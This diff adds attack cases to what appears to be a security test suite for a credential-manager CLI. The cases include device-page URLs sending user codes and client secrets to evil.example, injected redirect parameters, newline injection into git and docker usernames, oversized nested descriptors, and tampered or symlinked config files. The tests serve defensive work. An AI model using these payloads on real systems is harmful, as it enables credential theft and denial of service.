@@ -142,7 +142,7 @@ def answers_badly():
             return redirect(with_query(asked["redirect_uri"], [(name, "first"), ("code", CODE), ("state", asked["state"])]))
         yield Attack("provider", f"{name} twice", control, {
             "answers": {"/authorize": twice}, "login": (*LOGIN, "--timeout", "3s")}, (REFUSED, USAGE, LOGIN_NEEDED, 5))
-    for kind in ("DPoP", "mac", "N_A"):
+    for kind in ("DPoP", "mac", "N_A", "", ["mac"], {"of": "mac"}):
         yield Attack("provider", f"a token of the type {kind}", Scene(code()), {"answers": answer(token_type=kind)}, WRONG_ANSWER)
 
     def claims(**change):
@@ -196,6 +196,11 @@ def takes_secrets_to_a_page():
         "edit": device(page % "https://evil.example/?c={user_code}")})
     yield Attack("descriptor", "the client secret in the device page, edited in place", control, {
         "edit": device(page % "https://evil.example/?c={user_code}&s={client_secret}")})
+    field = device().replace('"http://$H/device"', '{ url: "http://$H/device", response: { fields: { %s } } }')
+    told = Scene(field % "user_code: [code, user_code]")
+    for name in ("device_code", "ticket"):
+        yield Attack("descriptor", f"the device code under the name {name} in the place of the person's", told, {
+            "descriptor": field % f"device_code: [ticket, device_code], user_code: {name}"})
 
 
 def redirects_elsewhere():
@@ -210,6 +215,9 @@ def redirects_elsewhere():
         ("by a function", implicit('redirect: "{lowercase(r)}"\n' + f"variables: {value}\n")),
     ):
         yield Attack("descriptor", f"a redirect elsewhere {name}", control, {"edit": descriptor})
+    own = replace(control, edit=implicit(parameters='{ client_id: "{client_id}", prompt: login }'))
+    for name, parameters in (("redirect as PHP reads it", f'"redirect[uri": "{evil}"'), ("client", "client_id: another")):
+        yield Attack("descriptor", f"another {name}", own, {"edit": implicit(parameters="{ %s }" % parameters)})
 
 
 def widens_what_was_agreed():
@@ -252,6 +260,36 @@ def widens_what_was_agreed():
         shadow, commands=(("refresh", "gitlab"),), stdin="", shows=""), {"after": removed}, NOT_ALLOWED)
 
 
+def writes_lines():
+    more = '%s: { hosts: ["$H"], username: "%s" }\n'
+    asked = Scene(code(more=more % ("git", "x")), commands=(("git-credential", "get"),), stdin="protocol=http\nhost=$H\n\n",
+                  shows=ACCESS)
+    for tool in ("git", "docker"):
+        line = code(more=more % (tool, r"x\nprotocol=http\nhost=$E"))
+        yield Attack("descriptor", f"a line of its own in the user name of {tool}", asked, {"descriptor": line})
+        yield Attack("descriptor", f"a line of its own in the user name of {tool}, edited in place", asked, {
+            "edit": line, "commands": (("refresh", "notes"),)})
+
+
+def exhausts_the_machine():
+    def wide(value, count):
+        parameters = "".join(f'      x{number}: "{value}"\n' for number in range(count))
+        return ('provider: notes\ngrant: authorization_code\nvariables: { s: { default: "%s" } }\nendpoints:\n'
+                '  authorization: "http://$H/authorize"\n  token:\n    url: "http://$H/token"\n    parameters:\n%s' % (
+                    "s" * 60000, parameters))
+
+    def nested(depth):
+        return "s" if depth == 0 else f"hex({nested(depth - 1)}, {nested(depth - 1)})"
+
+    control = Scene(wide("{s}", 3))
+    for name, value, count in (
+        ("many parameters", "{s}", 2000), ("many computed parameters", "{hex(sha256(sha256(sha256(s))))}", 2000),
+        ("parameters that are long together", "{s}", 100), ("functions in each other", "{%s}" % nested(12), 1),
+        ("a value that doubles", "{%s}" % nested(8), 1),
+    ):
+        yield Attack("descriptor", name, control, {"descriptor": wide(value, count)})
+
+
 # Another user of this machine, and whoever looks over a shoulder.
 def writes_files():
     git = code(more='git: { hosts: ["$H"], username: x }\ndocker: { hosts: ["$H"] }\n')
@@ -270,6 +308,30 @@ def writes_files():
     yield Attack("local user", "a line in the index of docker's hosts", docker, {
         "after": index, "stdin": "$E", "shows": ""}, (1,), says="")
 
+    def rules(test):
+        test.credmgr("use", "notes", ADA, "--in", "/")
+
+    def changed(name, change):
+        def after(test):
+            rules(test)
+            change(os.path.join(test.homes[-1], name))
+        return {"after": after}
+
+    def linked(path):
+        os.rename(path, path + ".real")
+        os.symlink(path + ".real", path)
+        os.lchown(path, 12345, 12345)
+
+    read = Scene(code(), after=rules, commands=(("refresh", "notes"), ("token", "notes")), shows=ACCESS)
+    changes = [("that others can write", lambda path: os.chmod(path, 0o777))]
+    # Only the superuser gives files away; in a container without all users, `nobody` stands for those outside.
+    if text_of("/proc/self/uid_map").split() == ["0", "0", "4294967295"] and os.geteuid() == 0:
+        changes += [("of another user", lambda path: os.chown(path, 12345, 12345)),
+                    ("of nobody", lambda path: os.chown(path, 65534, 65534)), ("behind a link of another user", linked)]
+    for name in ("config", "config/providers", "config/providers/notes.yaml", "config/accounts.yaml"):
+        for what, change in changes:
+            yield Attack("local user", f"{name} {what}", read, changed(name, change), NOT_ALLOWED)
+
 
 def reads_what_was_typed():
     added = Scene(code())
@@ -281,7 +343,9 @@ def reads_what_was_typed():
         "exec nots -- true --password=$T", "vault protect passphrase --passphrase-file $T", "vault protect $T",
         "vault import $W/copy --password $T", "--token=$T login notes", "header notes --url http://u:$T@$H/",
         "request notes http://$H/api --header $T", "request notes http://u:$T@$H/api", "add-provider https://u:$T@notes.example",
-        "use notes ada --key $T",
+        "use notes ada --key $T", "use notes ada --for https:/u:$T@forge.example/x", "use notes ada --for http//u:$T@forge.example/x",
+        "use notes ada --for https:$T@forge.example/x", "docker-credential setup https://$H/x?token=$T",
+        "docker-credential setup https:/u:$T@$H/x",
     ):
         shown = words.replace("$W/", "")
         yield Attack("local user", f"a secret on the command line {shown}", added, {"commands": (tuple(words.split()),)},
@@ -295,7 +359,8 @@ def reads_what_was_typed():
                 with open(os.path.join(folder, name), "rb") as file:
                     test.assertNotIn(TYPED.encode(), file.read(), name)
 
-    for url in ("http://octo:$T@$H/team", "http://$T:x@$H/team", "http://$H/team?access_token=$T"):
+    for url in ("http://octo:$T@$H/team", "http://$T:x@$H/team", "http://$H/team?access_token=$T",
+                "git@forge.example:acme?$T"):
         yield Attack("local user", f"a password in the URL of a rule {url}", rule, {"commands": (
             ("use", "notes", ADA, "--for", url), ("status", "--for", url.replace("//$T:x@", "//octo:$T@")),
             ("status", "--for", url.replace("//$T:x@", "//octo:$T@"), "--json"), ("log",), ("doctor",)), "shows": "",
@@ -400,6 +465,8 @@ ATTACKS = [attack for rows in (
     takes_secrets_to_a_page,
     redirects_elsewhere,
     widens_what_was_agreed,
+    writes_lines,
+    exhausts_the_machine,
     writes_files,
     reads_what_was_typed,
     keeps_tokens_of_git,
@@ -482,7 +549,9 @@ class Attacks(ProgramTest):
             outcome = self.play(attack.control)
             self.assertEqual(outcome.status, DONE, f"the control does not work:\n{outcome.out}\n{outcome.err}")
             self.controlled.add(id(attack.control))
+        start = time.monotonic()
         outcome = self.play(replace(attack.control, **attack.change))
+        self.assertLess(time.monotonic() - start, 100, "the attack takes long")
         self.assertIn(outcome.status, attack.ends, f"the attack ended so:\n{outcome.out}\n{outcome.err}")
         if outcome.status and attack.says:
             self.assertRegex(outcome.err + outcome.out, attack.says)
